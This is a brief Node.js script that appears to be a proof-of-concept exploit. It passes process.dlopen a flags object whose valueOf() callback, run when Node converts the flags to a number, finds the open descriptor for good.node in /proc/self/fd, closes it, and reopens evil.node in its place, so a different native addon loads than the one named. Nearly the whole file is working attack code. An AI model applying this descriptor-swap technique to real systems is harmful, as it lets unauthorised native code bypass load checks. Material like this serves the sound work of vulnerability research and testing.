// Puts evil.node under the number when Node turns the flags into a number.
const fs = require('node:fs');

const flags = {
  valueOf() {
    for (const name of fs.readdirSync('/proc/self/fd')) {
      try {
        if (!fs.readlinkSync(`/proc/self/fd/${name}`).endsWith('good.node')) continue;
        fs.closeSync(Number(name));
        fs.openSync(`${__dirname}/evil.node`);
      } catch {
        // The fd by which the list was read.
      }
    }
    return 1;
  },
};
process.dlopen({ exports: {} }, `${__dirname}/good.node`, flags);
